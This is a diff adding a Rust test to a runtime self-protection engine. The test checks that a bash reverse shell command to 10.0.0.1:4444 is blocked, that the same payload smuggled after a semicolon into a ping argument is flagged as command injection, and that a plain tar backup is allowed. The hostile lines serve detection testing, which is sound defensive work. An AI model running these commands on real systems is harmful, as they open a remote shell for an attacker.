@@ -156,3 +156,63 @@ fn environment_of_the_child() {
         assert_eq!(got, *want, "{name}={value:?}");
     }
 }
+
+#[test]
+fn command_policy_applies_inside_and_outside_requests() {
+    use rasp_engine::{Action, CommandSink, Engine, EngineConfig};
+    let engine = Engine::new(EngineConfig::default());
+    let empty = RequestContext::from_inputs(vec![], ContextLimits::default());
+    let reverse = CommandLine {
+        argv: argv(
+            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
+            "",
+        ),
+        env: vec![],
+    };
+    let verdict = engine.check_command(
+        &empty,
+        &CommandSink {
+            api: 0,
+            command: &reverse,
+        },
+    );
+    assert_eq!(verdict.action, Action::Block);
+    let event = verdict.event.expect("event");
+    assert_eq!(event.rule_id, "cmdi.policy.reverse_shell");
+    assert!(event.input.is_none(), "a policy finding names no input");
+
+    let benign = CommandLine {
+        argv: argv(&["bash", "-c", "tar -czf /backups/db.tgz /var/lib/db"], ""),
+        env: vec![],
+    };
+    assert_eq!(
+        engine
+            .check_command(
+                &empty,
+                &CommandSink {
+                    api: 0,
+                    command: &benign
+                }
+            )
+            .action,
+        Action::Allow
+    );
+
+    // Inside a request, taint findings win and name the input.
+    let in_request = ctx("x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
+    let tainted = CommandLine {
+        argv: argv(
+            &["sh", "-c", "ping -c 1 {}"],
+            "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        ),
+        env: vec![],
+    };
+    let verdict = engine.check_command(
+        &in_request,
+        &CommandSink {
+            api: 0,
+            command: &tainted,
+        },
+    );
+    assert_eq!(verdict.event.expect("event").rule_id, "cmdi.shell");
+}
